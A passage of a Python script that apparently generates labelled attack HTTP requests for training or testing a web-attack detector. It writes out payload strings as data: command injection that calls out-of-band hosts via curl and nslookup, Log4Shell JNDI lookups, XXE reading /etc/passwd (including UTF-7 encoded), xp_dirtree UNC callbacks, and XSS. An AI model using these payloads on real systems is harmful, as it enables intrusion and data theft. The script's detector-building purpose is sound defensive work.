    return "scanner", "header", request("GET", path, h)


def ev_oob(rng):
    dom = pick(rng, ["c5f1x9.oast.fun", "abc123.burpcollaborator.net", "x7.interact.sh", "zz9.dnslog.cn", "k2.oastify.com", "q1.requestbin.net", "t.canarytokens.com"])
    fam, v = pick(rng, [("cmdi", f"; nslookup {dom}"), ("cmdi", f"$(curl http://{dom}/$(whoami))"), ("log4shell", f"${{jndi:dns://{dom}/a}}"),
                        ("ssrf", f"http://{dom}/"), ("xss", f"<img src=http://{dom}/x>"), ("xxe", f'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://{dom}/x">%a;]><x/>'),
                        ("sqli", f"1; EXEC master..xp_dirtree '\\\\{dom}\\a'--"), ("ssrf", f"https://{dom}/callback")])
    loc = pick(rng, ["query", "json", "form", "header.User-Agent", "header.Referer"])
    if fam == "xxe":
        loc = "xml"
    return fam, loc.split(".")[0], place(rng, loc, pick(rng, ["url", "q", "host", "callback"]), v)


def ev_utf7_xml(rng):
    host = host_for(rng)
    body = pick(rng, ['<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE foo +AFs-+ADwAIQ-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-+ADw-foo+AD4-+ACY-xxe+ADsAPA-/foo+AD4-',
                      '<?xml version="1.0" encoding="UTF-7"?>+ADw-root+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-+ADw-/root+AD4-'])
    return "xxe", "xml", request("POST", "/api/import", headers(rng, host, "application/xml"), body)


EVASIONS = [("header-arbitrary", ev_header_arbitrary, 400), ("base64", ev_base64, 300), ("overlong-utf8", ev_overlong, 200),
            ("json-in-json", ev_json_in_json, 200), ("zero-width", ev_zero_width, 200), ("bracketed-name", ev_bracketed_name, 200),
            ("path-normalisation", ev_path_normalisation, 150), ("log4shell-obfuscated", ev_log4shell_obf, 200),
            ("shell-quoting", ev_shell_quoting, 200), ("js-no-parens", ev_js_no_parens, 200), ("ssi", ev_ssi, 100),
            ("el-ognl", ev_el_ognl, 150), ("mail-injection", ev_mail, 120), ("argument-injection", ev_argument, 120),
            ("open-redirect-ssrf", ev_redirect_ssrf, 200), ("scanner-ua", ev_scanner, 150), ("oob-callback", ev_oob, 120),
            ("utf7-xml", ev_utf7_xml, 30)]
CLASSIC_PER_LOCATION = 40


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seed", type=int, default=27)
    ap.add_argument("--out", default="crates/palisade-detect/data/requests/attacks.jsonl.gz")
    args = ap.parse_args()
    rows = []
    for family in FAMILIES:
        for loc in LOCATIONS:
            rng = random.Random(f"{args.seed}/{family}/{loc}")
            reset_visitor()
            for i in range(CLASSIC_PER_LOCATION):
                raw, where = classic(rng, family, loc)
                rows.append(row(f"{family}-{loc}-{i:04d}", "attack", family, "rest-api", where, raw, family=family))
    for cls, gen, count in EVASIONS:
        rng = random.Random(f"{args.seed}/{cls}")
        reset_visitor()
        for i in range(count):
            fam, loc, raw = gen(rng)
            rows.append(row(f"{cls}-{i:04d}", "attack", cls, "rest-api", loc, raw, family=fam))
    n = write_jsonl_gz(args.out, rows)
    print(f"{args.out}: {len(rows)} requests, {n} bytes uncompressed")


if __name__ == "__main__":
    main()
